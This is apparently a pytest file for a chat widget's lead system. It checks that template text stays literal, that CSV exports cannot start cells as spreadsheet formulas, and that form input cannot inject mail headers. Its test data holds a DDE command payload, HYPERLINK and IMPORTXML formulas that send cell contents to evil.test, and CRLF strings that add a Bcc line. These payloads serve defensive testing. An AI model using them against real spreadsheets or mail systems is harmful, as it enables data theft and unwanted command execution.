"""A8, A10, A11: what people write is never a template, never a formula, never a line of a mail's head."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from email.headerregistry import Address
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path
from typing import Any

import pytest

from leads.export import csv_row
from tests.abuse.corpus import TEMPLATES
from tests.faults.results import NewScenario
from tests.webhook.bot_server import BotServer, replying
from tests.webhook.clients import Json, new_id
from tests.webhook.conftest import StartHub
from tests.webhook.hub import RunningHub, quick
from webhook.schemas import Contact
from webhook.texts import check_texts, load_texts

pytestmark = pytest.mark.timeout(900)

OPEN = quick(signals_per_minute=1e6, signal_burst=10_000)


def form(name: str, email: str = "jane@example.com", message: str = "", consent: str = "Yes.") -> Json:
    return {"client_msg_id": new_id(), "name": name, "email": email, "message": message, "consent": consent}


async def test_a8_texts_are_no_templates(new_hub: StartHub, bot: BotServer, scenario: NewScenario, tmp_path: Path) -> None:
    hub = await new_hub(tuning=OPEN)
    agent = await hub.agent()
    with scenario(
        "A8",
        "What looks like a template stands as it was written, wherever it goes",
        f"{len(TEMPLATES)} texts of template and format languages as message, bot's answer and button, name, "
        f"contact form, page title, agent's line, and in bot/widget.yml",
        "0 that came out changed; in YAML each is literal or refused with its line",
    ) as it:
        changed: list[Any] = []
        for text in TEMPLATES:
            bot.script = replying(text, (text, text))
            tab = await hub.visitor()
            await tab.ok("page", {"url": "https://shop.example/", "title": text})
            await tab.say(text)
            said = await tab.entry(lambda entry: entry["author"] == "bot")
            changed += [one for one in (said["text"], said["choices"][0]["title"]) if one != text]
            await tab.ok("contact", form(text, message=text, consent=tab.consent))
            mine = await tab.entry(lambda entry: entry["kind"] == "contact")
            changed += [] if mine["text"] == f"{text}, jane@example.com: {text}" else [mine["text"]]
            state = await agent.accept(tab.conversation_id)
            await agent.reply(state, text, seen_seq=99_999)
            line = await tab.entry(lambda entry: entry["author"] == "agent")
            opened = await agent.open(tab.conversation_id)
            changed += [one for one in (line["text"], opened["lead"]["pages"][0]["title"]) if one != text]
            changed += [
                entry["text"]
                for entry in opened["entries"]
                if entry["author"] == "visitor" and entry["kind"] == "message" and entry["text"] != text
            ]
        it.must("changed", len(changed), why=str(changed[:3]))
        file, wrong = tmp_path / "widget.yml", []
        for text in TEMPLATES:
            quoted = json.dumps(text)
            file.write_text(
                f"name: {quoted}\nteaser: {quoted}\nplaceholder: {quoted}\nconsent_text: {quoted}\nlines:\n  joined: {quoted}\n"
            )
            problems = check_texts(file)
            if problems:
                wrong += [text] if problems[0].line not in (1, 6) else []
                continue
            texts = load_texts(file)
            shown = {texts.site.name, texts.site.teaser, texts.site.placeholder, texts.site.consent.text(None)}
            joined = texts.lines.say("joined", agent="{email} {agent} {0} %s")
            if shown != {text} or joined != text.replace("{agent}", "{email} {agent} {0} %s"):
                wrong.append(text)
        it.must("changed or refused without a line in YAML", len(wrong), why=str(wrong))
        it.tell("texts", len(TEMPLATES) * 8)


STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\0",
    "|",
    "%",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\ufe66",
    "\ufe62",
    "\ufe63",
    "\ufe6b",
    "\u2212",
)
BEFORE = ("", " ", "\u00a0", "\u3000", "\ufeff", "\u200b", "  ", "\u2028", '"', "'")
FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.test?x="&A1,"x")',
    "SUM(1,1)",
    'IMPORTXML("https://evil.test","//a")',
    "DDE(1;2)\n=1+1",
    '1","=1+1',
)
TRIGGERS = frozenset("=+-@\t\r\n\0|%")


async def test_a10_exported_cells_are_no_formulas(hub: RunningHub, scenario: NewScenario) -> None:
    texts = [before + start + formula for start in STARTS for before in BEFORE for formula in FORMULAS]
    with scenario(
        "A10",
        "No cell of an export is a formula for a spreadsheet, whatever was said",
        f"{len(texts)} texts of {len(STARTS)} beginnings (also in full width and as other minus and plus "
        f"signs) behind {len(BEFORE)} kinds of blank, with quotes, commas and "
        "line breaks, as every cell of an exported lead; written and read back with a CSV reader, every cell looked at",
        "0 cells that begin as a formula, 0 rows or columns more than leads and questions, 0 texts lost",
    ) as it:
        live = lost = shape = cells = 0
        for text in texts:
            row = csv_row(lead(text))
            out = io.StringIO()
            writer = csv.DictWriter(out, list(row))
            writer.writeheader()
            writer.writerow(row)
            found = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
            shape += len(found) != 1 or None in found[0]
            for cell in found[0].values():
                cells += 1
                live += is_formula(cell)
            lost += text.replace("\r", "").replace("\n", "") not in found[0]["name"].replace("\r", "").replace("\n", "")
        it.must("cells that begin as a formula", live)
        it.must("rows or columns that fell apart", shape)
        it.must("texts lost", lost)
        it.tell("cells", cells)
        tab = await hub.visitor()
        await tab.say("Hello")
        await tab.ok("contact", form('=HYPERLINK("https://evil.test")', consent=tab.consent))
        rows = [csv_row(one) for one in [one async for one in hub.leads.export()]]
        it.must("formulas in a real export", sum(is_formula(cell) for row in rows for cell in row.values()))
        assert any("HYPERLINK" in cell for row in rows for cell in row.values())
        it.note("No spreadsheet program is at hand where this ran: the rule is judged cell by cell.")


def is_formula(cell: str) -> bool:
    """As the most careless spreadsheet might: blanks in front are skipped, and other forms of a sign count as the sign."""
    first = next((sign for sign in cell if not (sign.isspace() and sign not in "\t\r\n") and sign not in "\ufeff\u200b\u2060"), "")
    plain = unicodedata.normalize("NFKC", first).replace("\u2212", "-")[:1]
    number = cell.strip()
    return plain in TRIGGERS and plain != "" and not number.lstrip("+-").replace(".", "", 1).isdigit()


def lead(text: str) -> Json:
    return {
        **{
            name: text
            for name in (
                "id",
                "conversation_id",
                "created_at",
                "updated_at",
                "stage",
                "stage_reason",
                "segment",
                "tier",
                "name",
                "email",
                "company",
            )
        },
        **{"score": -5, "fit": 0, "engagement": 0, "pages": [{"url": text, "title": text, "at": text}]},
        "answers": [{"slot": "budget", "status": text, "said": text, "text": text, "value": {"text": text}}],
        "receipt": {"entries": [{"points": -5, "sentence": text}], "rules_hash": text},
    }


ENDS = ("\r\n", "\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\0", "%0d%0a", "\\r\\n", "\u560d\u560a", "\r\n\r\n")
HEADS = ("Bcc: victim@example.com", "Subject: x", "Content-Type: text/html", "<script>x</script>")
ENCODED = (
    "=?utf-8?q?=0d=0aBcc:_victim@example.com?=",
    "=?utf-8?b?DQpCY2M6IHZAZXhhbXBsZS5jb20=?=",
    "=?iso-8859-1?Q?Mara_from_support?=",
    "a=?utf-8?q?x?=b",
)
BAD_MAILS = (
    *("jane@example.com\r\nBcc: v@example.com", "jane@example.com\n", "jane\r\n@example.com", "jane@example.com\0", "jane@exa\nmple.com"),
    *(
        "=?utf-8?q?jane?=@example.com",
        "jane@example.com,v@example.com",
        "jane@example.com;v@example.com",
        "<jane@example.com>",
        "Jane <jane@example.com>",
    ),
    *(
        '"a\r\nb"@example.com',
        '"jane doe"@example.com',
        "jane@example.com\u2028x",
        "jane@[127.0.0.1]",
        "jane@example.com%0abcc:v@example.com",
        "jane@-example.com",
    ),
)


async def test_a11_names_and_addresses_are_no_heads_of_mails(hub: RunningHub, scenario: NewScenario) -> None:
    names = [f"Jane{end}{head}" for end in ENDS for head in HEADS] + list(ENCODED)
    with scenario(
        "A11",
        "No name and no address can add a line or a word of its own to the head of a mail",
        f"{len(names)} names with line ends of all kinds and encoded words, {len(BAD_MAILS)} addresses with "
        f"more than an address, at the contact form; what comes through is built "
        "into a mail, written out and read again",
        "0 names with a line end or encoded word kept, 0 such addresses taken, 0 heads more",
    ) as it:
        kept = more = 0
        for name in names:
            taken = Contact.model_validate(form(name))
            kept += any(sign in taken.name for sign in "\r\n\x0b\x0c\x85\u2028\u2029\0") or "=?" in taken.name
            mail = EmailMessage(policy=SMTP)
            mail["Subject"], mail["Reply-To"] = f"New lead: {taken.name}", Address(taken.name, addr_spec=taken.email)
            mail.set_content(taken.name)
            head = bytes(mail).split(b"\r\n\r\n")[0].replace(b"\r\n ", b" ").split(b"\r\n")
            more += len(head) != len(mail.keys())
        tab = await hub.visitor()
        through = [email for email in BAD_MAILS if (await tab.call("contact", form("Jane", email, consent=tab.consent)))["ok"]]
        clean = []
        for email in through:  # cut down to an address is as good as refused
            found = Contact.model_validate(form("Jane", email)).email
            clean += [] if found == "jane@example.com" else [found]
        it.must("names kept with a line end or encoded word", kept)
        it.must("heads more", more)
        it.must("addresses taken that are more than one", len(clean), why=str(clean))
        it.tell("tried", len(names) + len(BAD_MAILS))
        assert (await tab.call("contact", form("Zo\u00eb O'Neil-\u738b", "zoe+x@example.com", consent=tab.consent)))["ok"]
